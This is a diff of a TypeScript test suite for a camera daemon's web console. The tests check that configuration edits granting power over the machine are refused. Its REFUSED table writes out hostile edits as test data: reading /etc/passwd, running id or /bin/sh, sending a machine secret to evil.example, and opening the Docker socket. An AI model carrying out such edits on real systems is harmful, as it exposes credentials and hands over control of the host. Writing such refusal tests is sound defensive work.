@@ -1,4 +1,4 @@
-// http/console: what gives power over the machine is refused in every spelling, with its line, and nothing of it is read.
+// http/console: every spelling of a change with power over the machine is refused, with its line, and without reading its files.
 
 import { existsSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
@@ -46,7 +46,7 @@ async function site(t: Ending, user = 'anna') {
   const ask = await logIn(await consoleAt(camd), user, PASSWORD);
   const send = async (path: string, edit: (text: string) => string, name: string) => {
     const { revision, files } = (await ask<ProfileTexts>('/api/profile')).json;
-    const file = files.find((one) => one.name === name);
+    const file = files.find((entry) => entry.name === name);
     const text = edit(file?.text ?? '');
     if (text === file?.text) throw new Error('the edit changes nothing');
     const body = { files: [{ path: file?.path, text }] };
@@ -67,7 +67,7 @@ const add = (node: string) => swap('  shell:', `  ${node}\n  shell:`);
 const REFUSED: Readonly<Record<string, readonly [(text: string) => string, string?]>> = {
   'a command of a template': [swap('[cat, /dev/null]', '[cat, /etc/passwd]')],
   'a command beside a template': [swap('{ like: shot, every: 2h }', '{ like: shot, command: [id], every: 2h }')],
-  'an option of source/exec that is none of its command': [swap('every: 2h', 'every: 3h')],
+  'an option of source/exec other than its command': [swap('every: 2h', 'every: 3h')],
   'a new source/exec': [add('more: { use: source/exec, command: [id], every: 1h }')],
   'a new source/exec by a template': [add('more: { like: shot }')],
   'a plugin that is changed into source/exec': [
@@ -115,8 +115,10 @@ const REFUSED: Readonly<Record<string, readonly [(text: string) => string, strin
     swap('control: false', 'control: false\ncameras: { camera: "${env:KEY}" }'),
   ],
   'a var that becomes a secret of the machine': [swap('pause: 10s', 'pause: "${env:OTHER}"')],
-  'where a node with a secret of the machine sends it': [swap('http://127.0.0.1:9/x.jpg', 'http://evil.example/x.jpg')],
-  'where a node sends a secret of the machine in its URL': [swap('http://127.0.0.1:9/$', 'http://evil.example/$')],
+  'another URL for a node with a secret of the machine': [
+    swap('http://127.0.0.1:9/x.jpg', 'http://evil.example/x.jpg'),
+  ],
+  'another host in a URL with a secret of the machine': [swap('http://127.0.0.1:9/$', 'http://evil.example/$')],
   'a listen address': [swap('listen: 127.0.0.1:0, auth', 'listen: ":0", auth')],
   'a new server': [add('open: { use: http/server }')],
   'a new listener': [add('drop: { use: source/tcp, listen: ":0", parse: mjpeg }')],
@@ -124,19 +126,21 @@ const REFUSED: Readonly<Record<string, readonly [(text: string) => string, strin
   'a public path': [swap('auth: { basic', "auth: { public: ['/*'], basic")],
   'a user of the console': [swap('role: edit }', 'role: operate }')],
   'the console itself': [swap('edit: true', 'edit: false')],
-  'a node that goes and gave power': [swap(/ {2}shell: .*\n/.exec(BASE)?.[0] ?? '', '')],
-  'a server that goes': [(text) => text.replace(/ {2}web: .*\n/, '').replace(/ {2}page: .*\n/, '  gate: null\n')],
+  'a removed node with power over the machine': [swap(/ {2}shell: .*\n/.exec(BASE)?.[0] ?? '', '')],
+  'a removed server': [(text) => text.replace(/ {2}web: .*\n/, '').replace(/ {2}page: .*\n/, '  gate: null\n')],
   'a path outside of the state folder': [swap('path: pictures', 'path: /etc')],
   'a new path outside of the state folder': [add('tray: { use: source/directory, path: /etc }')],
-  'a path beside the state folder that begins like it': [add('tray: { use: source/directory, path: state-of-others }')],
-  'a proxy to somewhere else': [swap('http://127.0.0.1:9', 'http://127.0.0.1:22'), 'base.yaml'],
+  'a path beside the state folder with the same prefix': [
+    add('tray: { use: source/directory, path: state-of-others }'),
+  ],
+  'another target of a proxy': [swap('http://127.0.0.1:9', 'http://127.0.0.1:22'), 'base.yaml'],
   'a certificate that is not checked': [swap('username: me', 'tls: { verify: false }, username: me')],
   'a socket of the machine': [add('sock: { use: source/tcp, connect: "unix:/run/docker.sock", parse: mjpeg }')],
   'a program': [add('cam: { use: source/rtsp, url: "rtsp://127.0.0.1:9/", program: /bin/sh }')],
   'a command of a still source': [add('cam: { use: source/still, command: [sh] }')],
 };
 
-t.test('each of these is refused with its line, and no byte changes', async (t) => {
+t.test('each change with power over the machine is refused with its line, and no byte changes', async (t) => {
   const { apply, check, texts, camd } = await site(t);
   const before = texts();
   const running = camd.daemon.view.nodes().map(({ id, restarts }) => `${id} ${restarts}`);
@@ -153,7 +157,7 @@ t.test('each of these is refused with its line, and no byte changes', async (t) 
       json.fenced?.some(({ place }) => (place?.line ?? 0) > 0),
       `${title}: it has a place`,
     );
-    t.ok((checked.json.fenced.length ?? 0) > 0, `${title}: the check says so as well`);
+    t.ok((checked.json.fenced.length ?? 0) > 0, `${title}: the check reports it too`);
   }
   t.strictSame(texts(), before);
   t.strictSame(
@@ -162,7 +166,7 @@ t.test('each of these is refused with its line, and no byte changes', async (t) 
   );
 });
 
-t.test('files and code of a candidate are not even read', async (t) => {
+t.test('files and code of a candidate are not read', async (t) => {
   const { check, camd } = await site(t);
   const trace = join(camd.folder, 'trace');
   const code = `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(trace)}, 'ran'); export default [];`;
@@ -175,7 +179,7 @@ t.test('files and code of a candidate are not even read', async (t) => {
   t.notOk(existsSync(trace));
 });
 
-t.test('what gives no power may be changed, added and removed', async (t) => {
+t.test('nodes and options without power over the machine can be changed, added and removed', async (t) => {
   const { apply, camd } = await site(t);
 
   for (const edit of [
@@ -195,7 +199,7 @@ t.test('what gives no power may be changed, added and removed', async (t) => {
   t.equal(camd.daemon.profile?.nodes.get('camera')?.options.name, 'porch');
 });
 
-t.test('somebody with a list of cameras changes what is of them alone', async (t) => {
+t.test('a user with a camera list cannot change other cameras or settings of the daemon', async (t) => {
   const { apply } = await site(t, 'hall');
 
   t.equal((await apply(swap('fps: 5', 'fps: 3'))).status, 200);
